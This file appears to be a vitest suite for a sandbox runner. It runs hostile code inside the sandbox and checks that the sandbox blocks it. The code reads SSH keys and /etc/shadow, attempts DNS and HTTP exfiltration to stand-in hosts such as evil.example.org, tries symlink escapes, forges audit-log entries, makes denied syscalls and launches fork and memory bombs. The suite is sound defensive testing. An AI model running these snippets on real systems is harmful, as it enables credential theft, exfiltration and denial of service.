import { spawnSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { rm } from 'node:fs/promises';
import { createServer as createHttpServer } from 'node:http';
import { createServer as createNetServer, type Server } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSandboxRunner, type SandboxRunner } from '../src/index.ts';
import { createLab, type Lab, observingCode, type ProfileSpec } from './fixtures.ts';

// Hostile code run for real under the full tier. Each case checks what the
// code observed, the typed error of the call, and the host afterwards.

type Harness = Awaited<ReturnType<Lab['executor']>>;
type Observed = Record<string, { ok: boolean; code?: string; value?: unknown }>;

function processCommandLines(): string[] {
  const lines: string[] = [];
  for (const entry of readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      lines.push(readFileSync(`/proc/${entry}/cmdline`, 'utf8').replaceAll('\0', ' '));
    } catch {
      // exited meanwhile
    }
  }
  return lines;
}

describe.concurrent('in-sandbox attacks at the full tier', () => {
  let lab: Lab;
  let runner: SandboxRunner;
  let workspace: string;
  let home: string;
  let outside: string;
  let binDir: string;
  const seen = { tcp: 0, udp: 0, unix: 0, http: [] as string[] };
  const servers: Array<{ close(callback?: () => void): unknown }> = [];
  let tcpPort = 0;
  let udpPort = 0;
  let httpPort = 0;
  let unixPath = '';

  async function call(name: string, body: string, profile: ProfileSpec = {}, args: unknown = {}) {
    const harness: Harness = await lab.executor(name, { code: observingCode(body), profile }, runner);
    const result = await harness.invoke(args, { workspace });
    return { result, observed: (result.ok ? result.content : {}) as Observed };
  }

  const failed = (observed: Observed, key: string) => {
    expect(observed[key], key).toBeDefined();
    expect(observed[key]!.ok, `${key} should fail: ${JSON.stringify(observed[key])}`).toBe(false);
  };

  beforeAll(async () => {
    lab = await createLab('metnos-sandbox-attack-');
    home = join(lab.root, 'home');
    workspace = join(lab.root, 'workspace');
    outside = join(lab.root, 'outside');
    binDir = join(lab.root, 'bin');
    mkdirSync(join(home, '.ssh'), { recursive: true });
    writeFileSync(join(home, '.ssh', 'id_ed25519'), 'CANARY-PRIVATE-KEY');
    mkdirSync(join(workspace, '.audit', 'executors'), { recursive: true });
    writeFileSync(join(workspace, '.audit', 'executors', 'ledger.jsonl'), 'LEDGER\n');
    writeFileSync(join(workspace, 'data.txt'), 'original');
    mkdirSync(outside);
    symlinkSync(join(home, '.ssh'), join(workspace, 'keys'));
    symlinkSync(outside, join(workspace, 'escape'));
    mkdirSync(binDir);
    const build = spawnSync('gcc', [
      '-O1',
      '-o',
      join(binDir, 'syscall-probe'),
      join(import.meta.dirname, '__fixtures__', 'syscall-probe.c'),
    ]);
    if (build.status !== 0) throw new Error(`syscall probe did not build: ${build.stderr}`);

    const tcp = createNetServer((socket) => {
      seen.tcp++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
    tcpPort = (tcp.address() as { port: number }).port;
    servers.push(tcp);
    const udp = createSocket('udp4');
    udp.on('message', () => seen.udp++);
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    udpPort = udp.address().port;
    servers.push(udp);
    unixPath = join(workspace, 'host.sock');
    const unix: Server = createNetServer((socket) => {
      seen.unix++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => unix.listen(unixPath, resolve));
    servers.push(unix);
    const http = createHttpServer((request, response) => {
      seen.http.push(`${request.headers.host}${request.url}`);
      response.end(JSON.stringify({ hello: 'from the host' }));
    });
    await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
    httpPort = (http.address() as { port: number }).port;
    servers.push(http);

    runner = createSandboxRunner({
      home,
      audit: false,
      binarySearchPath: ['/usr/local/bin', '/usr/bin', '/bin', binDir],
      hostOverrides: { 'api.example.test': `127.0.0.1:${httpPort}` },
      lookup: async (host) => (host === 'internal.example.test' ? ['127.0.0.1'] : ['203.0.113.7']),
    });
    expect(runner.tier).toBe('full');
  });

  afterAll(async () => {
    for (const server of servers) server.close();
    expect(readFileSync(join(workspace, '.audit', 'executors', 'ledger.jsonl'), 'utf8')).toBe('LEDGER\n');
    expect(readFileSync(join(workspace, 'data.txt'), 'utf8')).toBe('original');
    expect(readdirSync(outside)).toEqual([]);
    expect(seen.tcp + seen.udp + seen.unix).toBe(0);
    await rm(lab.root, { recursive: true, force: true });
  });

  describe('filesystem', () => {
    it('gets nothing from /root/.ssh', async () => {
      const { result, observed } = await call(
        'read_root_ssh',
        `out.list = await attempt(() => fs.readdirSync('/root/.ssh'));
         out.rsa = await attempt(() => fs.readFileSync('/root/.ssh/id_rsa', 'utf8'));
         out.ed = await attempt(() => fs.readFileSync('/root/.ssh/id_ed25519', 'utf8'));
         out.root = await attempt(() => fs.readdirSync('/root'));`,
      );
      expect(result.ok).toBe(true);
      for (const key of ['list', 'rsa', 'ed', 'root']) failed(observed, key);
      expect(JSON.stringify(observed)).not.toMatch(/PRIVATE KEY/);
    });

    it('gets nothing from /etc, /proc and /sys', async () => {
      const { observed } = await call(
        'read_system',
        `out.passwd = await attempt(() => fs.readFileSync('/etc/passwd', 'utf8'));
         out.shadow = await attempt(() => fs.readFileSync('/etc/shadow', 'utf8'));
         out.procRoot = await attempt(() => fs.readFileSync('/proc/self/root/etc/passwd', 'utf8'));
         out.environ = await attempt(() => fs.readFileSync('/proc/1/environ', 'utf8'));
         out.sys = await attempt(() => fs.readdirSync('/sys/kernel'));`,
      );
      for (const key of ['passwd', 'shadow', 'procRoot', 'environ', 'sys']) failed(observed, key);
    });

    it('sees the secrets inside a granted home masked', async () => {
      const { observed } = await call(
        'read_home_ssh',
        `out.direct = await attempt(() => fs.readFileSync(${JSON.stringify(join(home, '.ssh', 'id_ed25519'))}, 'utf8'));
         out.list = await attempt(() => fs.readdirSync(${JSON.stringify(join(home, '.ssh'))}));
         out.viaLink = await attempt(() => fs.readFileSync(ctx.workspace + '/keys/id_ed25519', 'utf8'));`,
        { read: ['$WORKSPACE', '$HOME'] },
      );
      failed(observed, 'direct');
      failed(observed, 'viaLink');
      expect(observed.list).toEqual({ ok: true, value: [] });
      expect(JSON.stringify(observed)).not.toContain('CANARY');
    });

    it('cannot write outside the allow-list, through a symlink, or into a read-only workspace', async () => {
      const target = join(lab.root, `escaped-${Date.now()}`);
      const { observed } = await call(
        'write_outside',
        `out.tmp = await attempt(() => fs.writeFileSync(${JSON.stringify(target)}, 'x'));
         out.link = await attempt(() => fs.writeFileSync(ctx.workspace + '/escape/planted.txt', 'x'));
         out.ro = await attempt(() => fs.writeFileSync(ctx.workspace + '/data.txt', 'overwritten'));`,
        { read: ['$WORKSPACE'] },
      );
      for (const key of ['tmp', 'link', 'ro']) failed(observed, key);
      expect(existsSync(target)).toBe(false);
    });

    it("cannot touch the workspace's audit ledger even with write access", async () => {
      const { observed } = await call(
        'write_audit',
        `out.append = await attempt(() => fs.appendFileSync(ctx.workspace + '/.audit/executors/ledger.jsonl', 'forged\\n'));
         out.read = await attempt(() => fs.readFileSync(ctx.workspace + '/.audit/executors/ledger.jsonl', 'utf8'));
         out.remove = await attempt(() => fs.rmSync(ctx.workspace + '/.audit', { recursive: true }));`,
        { write: ['$WORKSPACE'] },
      );
      for (const key of ['append', 'read', 'remove']) failed(observed, key);
    });

    it('cannot start workers or load native addons', async () => {
      const { observed } = await call(
        'workers',
        `const { Worker } = await import('node:worker_threads');
         out.worker = await attempt(() => new Worker('1', { eval: true }));
         out.addon = await attempt(() => process.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6'));`,
      );
      failed(observed, 'worker');
      failed(observed, 'addon');
    });
  });

  describe('processes', () => {
    it('cannot spawn a shell when exec is forbidden', async () => {
      const { observed } = await call(
        'shell_forbidden',
        `out.exec = await attempt(() => cp.execSync('id').toString());
         out.spawn = await attempt(() => { const r = cp.spawnSync('/bin/sh', ['-c', 'id']); if (r.error) throw r.error; return r.status; });`,
      );
      failed(observed, 'exec');
      failed(observed, 'spawn');
    });

    it('an allow-listed binary still cannot read secrets (the kernel layers, not Node, stop it)', async () => {
      const { observed } = await call(
        'cat_secrets',
        `const run = (args) => { const r = cp.spawnSync('cat', args, { encoding: 'utf8' }); if (r.status !== 0) throw Object.assign(new Error(r.stderr), { code: 'exit ' + r.status }); return r.stdout; };
         out.rootSsh = await attempt(() => run(['/root/.ssh/id_rsa']));
         out.passwd = await attempt(() => run(['/etc/passwd']));
         out.home = await attempt(() => run([${JSON.stringify(join(home, '.ssh', 'id_ed25519'))}]));
         out.ledger = await attempt(() => run([ctx.workspace + '/.audit/executors/ledger.jsonl']));
         out.data = await attempt(() => run([ctx.workspace + '/data.txt']));`,
        { read: ['$WORKSPACE', '$HOME'], exec: ['cat'] },
      );
      for (const key of ['rootSsh', 'passwd', 'home', 'ledger']) failed(observed, key);
      expect(observed.data).toEqual({ ok: true, value: 'original' });
    });

    it('only allow-listed binaries exist inside', async () => {
      const { observed } = await call(
        'only_listed',
        `const r = cp.spawnSync('sh', ['-c', 'id; ls /usr/bin; python3 -c 1; cat /etc/hostname; echo done'], { encoding: 'utf8' });
         out.stdout = { ok: true, value: r.stdout };
         out.stderr = { ok: true, value: r.stderr };`,
        { exec: ['sh'] },
      );
      expect(observed.stdout?.value).toBe('done\n');
      expect(String(observed.stderr?.value)).toMatch(/not found/);
    });

    it('cannot remount the read-only workspace writable', async () => {
      const { observed } = await call(
        'remount',
        `const r = cp.spawnSync('mount', ['-o', 'remount,rw,bind', ctx.workspace], { encoding: 'utf8' });
         out.mount = r.status === 0 ? { ok: true } : { ok: false, code: r.stderr.trim().slice(0, 200) };
         out.write = await attempt(() => fs.writeFileSync(ctx.workspace + '/data.txt', 'overwritten'));`,
        { read: ['$WORKSPACE'], exec: ['mount'] },
      );
      failed(observed, 'mount');
      failed(observed, 'write');
    });

    it('cannot create namespaces with unshare', async () => {
      const { observed } = await call(
        'unshare_bin',
        `for (const flags of [['-U'], ['-r'], ['-n'], ['-m'], ['-p', '-f']]) {
           const r = cp.spawnSync('unshare', [...flags, 'true'], { encoding: 'utf8' });
           out[flags.join('')] = r.status === 0 ? { ok: true } : { ok: false, code: r.stderr.trim().slice(0, 120) };
         }`,
        { exec: ['unshare'] },
      );
      for (const key of ['-U', '-r', '-n', '-m', '-p-f']) failed(observed, key);
    });

    describe('denied system calls (seccomp, namespaces, dropped capabilities)', () => {
      let probe: Record<string, string>;
      beforeAll(async () => {
        const { observed } = await call(
          'syscalls',
          `const r = cp.spawnSync('syscall-probe', [], { encoding: 'utf8' });
           out.probe = { ok: r.status === 0, value: r.stdout || r.stderr };`,
          { exec: ['syscall-probe'] },
        );
        probe = JSON.parse(String(observed.probe?.value));
      });
      for (const name of [
        'ptrace',
        'unshare_user',
        'unshare_net',
        'unshare_mount',
        'clone_newuser',
        'mount_proc',
        'remount_root_rw',
        'bpf',
        'keyctl',
        'userfaultfd',
        'io_uring_setup',
        'setns',
        'socket_unix',
        'chroot',
        'perf_event_open',
      ]) {
        it(`refuses ${name}`, () => {
          expect(probe[name]).toBeDefined();
          expect(probe[name]).not.toBe('ok');
        });
      }
    });
  });

  describe('network', () => {
    it('has no route to the host loopback, TCP or UDP, when the profile has no network', async () => {
      const { observed } = await call(
        'loopback',
        `out.tcp = await attempt(() => new Promise((resolve, reject) => { const s = net.connect(${tcpPort}, '127.0.0.1', () => resolve('connected')); s.on('error', reject); }));
         out.udp = await attempt(() => new Promise((resolve, reject) => { const s = dgram.createSocket('udp4'); s.send('exfil', ${udpPort}, '127.0.0.1', (error) => { s.close(); error ? reject(error) : resolve('sent'); }); }));
         out.fetch = await attempt(async () => (await fetch('http://127.0.0.1:${httpPort}/')).status);`,
      );
      failed(observed, 'tcp');
      failed(observed, 'fetch');
      // a UDP send may "succeed" into the sandbox's own empty loopback: the host counter below proves nothing arrived
      expect(seen.udp).toBe(0);
    });

    it('cannot exfiltrate through DNS', async () => {
      const { observed } = await call(
        'dns_exfil',
        `out.lookup = await attempt(() => dns.lookup('c2VjcmV0.exfil.example.com'));
         out.resolve = await attempt(() => dns.resolveTxt('c2VjcmV0.exfil.example.com'));
         out.udp = await attempt(() => new Promise((resolve, reject) => { const s = dgram.createSocket('udp4'); s.send('x', 53, '8.8.8.8', (error) => { s.close(); error ? reject(error) : resolve('sent'); }); }));`,
      );
      failed(observed, 'lookup');
      failed(observed, 'resolve');
      failed(observed, 'udp');
    });

    it('cannot connect to a unix socket on the host', async () => {
      const { observed } = await call(
        'unix_socket',
        `out.unix = await attempt(() => new Promise((resolve, reject) => { const s = net.connect(${JSON.stringify(unixPath)}, () => resolve('connected')); s.on('error', reject); }));`,
        { read: ['$WORKSPACE'] },
      );
      failed(observed, 'unix');
    });

    it('reaches an allow-listed domain through the egress proxy (operator host override)', async () => {
      const { result, observed } = await call(
        'egress_ok',
        `out.fetch = await attempt(async () => (await fetch('http://api.example.test/hello')).text());`,
        { domains: ['api.example.test'] },
        { url: 'http://api.example.test/hello' },
      );
      expect(result.ok).toBe(true);
      expect(observed.fetch).toEqual({ ok: true, value: '{"hello":"from the host"}' });
      expect(seen.http).toContain('api.example.test/hello');
      expect(result.isolation?.layers).toContain('egress-proxy');
    });

    it('tunnels CONNECT for an allow-listed host and refuses it for others', async () => {
      const { observed } = await call(
        'egress_connect',
        `const tunnel = (target) => new Promise((resolve, reject) => {
           const socket = net.connect(3128, '127.0.0.1', () => socket.write('CONNECT ' + target + ' HTTP/1.1\\r\\nhost: ' + target + '\\r\\n\\r\\n'));
           let text = '';
           socket.on('data', (chunk) => {
             text += chunk;
             if (text.startsWith('HTTP/1.1 200') && !text.includes('hello')) socket.write('GET /tunnel HTTP/1.1\\r\\nhost: api.example.test\\r\\nconnection: close\\r\\n\\r\\n');
           });
           socket.on('end', () => (text.includes('from the host') ? resolve('through') : reject(Object.assign(new Error(text.split('\\r\\n')[0]), { code: text.split('\\r\\n')[0] }))));
           socket.on('error', reject);
         });
         out.allowed = await attempt(() => tunnel('api.example.test:443'));
         out.other = await attempt(() => tunnel('evil.example.org:443'));
         out.literal = await attempt(() => tunnel('127.0.0.1:${httpPort}'));`,
        { domains: ['api.example.test'] },
      );
      expect(observed.allowed).toEqual({ ok: true, value: 'through' });
      expect(observed.other).toEqual({ ok: false, code: 'HTTP/1.1 403 Forbidden' });
      expect(observed.literal).toEqual({ ok: false, code: 'HTTP/1.1 403 Forbidden' });
      expect(seen.http).toContain('api.example.test/tunnel');
    });

    it('is refused by the proxy for other domains, other ports and internal addresses', async () => {
      const { result, observed } = await call(
        'egress_denied',
        `const status = async (url) => { const response = await fetch(url); if (response.status !== 200) throw Object.assign(new Error('status'), { code: 'HTTP ' + response.status }); return response.status; };
         out.other = await attempt(() => status('http://evil.example.org/steal'));
         out.port = await attempt(() => status('http://api.example.test:8080/'));
         out.internal = await attempt(() => status('http://internal.example.test/'));
         out.https = await attempt(() => status('https://evil.example.org/'));`,
        { domains: ['api.example.test', 'internal.example.test'] },
      );
      for (const key of ['other', 'port', 'internal', 'https']) failed(observed, key);
      const notes = result.isolation?.notes?.join('\n') ?? '';
      expect(notes).toMatch(/egress refused evil\.example\.org:80: not on the allow-list/);
      expect(notes).toMatch(/egress refused api\.example\.test:8080/);
      expect(notes).toMatch(/egress refused internal\.example\.test: resolves to an internal address/);
      expect(seen.http.filter((line) => !line.startsWith('api.example.test'))).toEqual([]);
    });

    it('cannot bypass the proxy with raw sockets when the network is allow-listed', async () => {
      const { observed } = await call(
        'egress_raw',
        `out.tcp = await attempt(() => new Promise((resolve, reject) => { const s = net.connect(${httpPort}, '127.0.0.1', () => resolve('connected')); s.on('error', reject); }));
         out.external = await attempt(() => new Promise((resolve, reject) => { const s = net.connect(443, '203.0.113.7', () => resolve('connected')); s.on('error', reject); }));
         out.bind = await attempt(() => new Promise((resolve, reject) => { const server = net.createServer(); server.on('error', reject); server.listen(8081, '127.0.0.1', () => resolve('listening')); }));`,
        { domains: ['api.example.test'] },
      );
      failed(observed, 'tcp');
      failed(observed, 'external');
      failed(observed, 'bind');
    });
  });

  describe('resources', () => {
    it('contains a fork bomb', async () => {
      const { result } = await call(
        'fork_bomb',
        `cp.spawnSync('sh', ['-c', 'metnos_bomb() { metnos_bomb | metnos_bomb & }; metnos_bomb'], { timeout: 20000 }); out.done = { ok: true };`,
        { exec: ['sh'], durationMs: 2500 },
      );
      if (!result.ok) expect(['Timeout', 'ResourceLimit', 'Crashed']).toContain(result.error.class);
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(processCommandLines().filter((line) => line.includes('metnos_bomb'))).toEqual([]);
    });

    it('stops a memory bomb outside the V8 heap (Buffers)', async () => {
      const { result } = await call(
        'buffer_bomb',
        `const keep = []; for (;;) keep.push(Buffer.alloc(32 * 1024 * 1024, 1));`,
        { memoryMb: 96, durationMs: 8000 },
      );
      expect(result.ok ? 'ok' : `${result.error.class}: ${result.error.message.slice(0, 300)}`).toMatch(
        /^ResourceLimit/,
      );
    });

    it('stops a memory bomb on the V8 heap', async () => {
      const { result } = await call(
        'heap_bomb',
        `const keep = []; for (;;) keep.push(new Array(1e6).fill({ a: Math.random() }));`,
        { memoryMb: 96, durationMs: 8000 },
      );
      expect(result.ok ? 'ok' : `${result.error.class}: ${result.error.message.slice(0, 300)}`).toMatch(
        /^ResourceLimit/,
      );
    });

    it('kills a CPU spin at the deadline', async () => {
      const started = Date.now();
      const { result } = await call('cpu_spin', `for (;;) {}`, { durationMs: 1200 });
      expect(result).toMatchObject({ ok: false, error: { class: 'Timeout' } });
      expect(Date.now() - started).toBeLessThan(6000);
    });

    it('kills a process that sleeps forever', async () => {
      const { result } = await call('sleeper', `await new Promise(() => setInterval(() => {}, 1000));`, {
        durationMs: 1200,
      });
      expect(result).toMatchObject({ ok: false, error: { class: 'Timeout' } });
    });

    it('caps a stdout flood', async () => {
      const { result } = await call(
        'stdout_flood',
        `const chunk = 'x'.repeat(65536); for (let i = 0; i < 4096; i++) fs.writeSync(1, chunk);`,
        { outputBytes: 100_000 },
      );
      expect(result).toMatchObject({ ok: false, error: { class: 'OutputTooLarge' } });
    });

    it('caps a stderr flood', async () => {
      const { result } = await call(
        'stderr_flood',
        `const chunk = 'e'.repeat(65536); for (let i = 0; i < 4096; i++) fs.writeSync(2, chunk);`,
      );
      expect(result).toMatchObject({ ok: false, error: { class: 'OutputTooLarge' } });
    });

    it('cannot kill its parent or anything on the host', async () => {
      const { result } = await call(
        'killer',
        `out.parent = await attempt(() => process.kill(process.ppid, 'SIGKILL'));
         out.host = await attempt(() => process.kill(${process.pid}, 'SIGKILL'));
         out.everyone = await attempt(() => process.kill(-1, 'SIGKILL'));`,
        {},
        {},
      );
      // this test process is still here to assert; the call ends with a typed outcome
      expect(process.pid).toBeGreaterThan(0);
      if (result.ok) expect((result.content as Observed).host?.ok).toBe(false);
      else expect(['Crashed', 'NonJsonOutput']).toContain(result.error.class);
    });

    it('leaves no child behind after a timeout', async () => {
      const { result } = await call(
        'orphan_timeout',
        `cp.spawn('sh', ['-c', 'sleep 987 & sleep 987'], { detached: true, stdio: 'ignore' }).unref(); await new Promise(() => setInterval(() => {}, 1000));`,
        { exec: ['sh', 'sleep'], durationMs: 1500 },
      );
      expect(result).toMatchObject({ ok: false, error: { class: 'Timeout' } });
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(processCommandLines().filter((line) => line.includes('sleep 987'))).toEqual([]);
    });

    it('leaves no daemon behind after a normal return', async () => {
      const { result } = await call(
        'orphan_return',
        `cp.spawn('sh', ['-c', 'sleep 986'], { detached: true, stdio: 'ignore' }).unref(); out.spawned = { ok: true };`,
        { exec: ['sh', 'sleep'] },
      );
      expect(result.ok).toBe(true);
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(processCommandLines().filter((line) => line.includes('sleep 986'))).toEqual([]);
    });
  });

  it('says which layers wrapped the call', async () => {
    const { result } = await call('layers', `out.here = { ok: true };`);
    expect(result.isolation?.tier).toBe('full');
    expect(result.isolation?.layers).toEqual(
      expect.arrayContaining([
        'bubblewrap',
        'seccomp',
        'landlock',
        'cap-drop-all',
        'net-ns',
        'rlimits',
        'node-permission',
      ]),
    );
    const memory = result.isolation?.layers.includes('cgroup-memory') ? 'cgroup' : 'heap-only';
    if (memory === 'heap-only') expect(result.isolation?.notes?.join(' ')).toMatch(/heap-only/);
  });
});
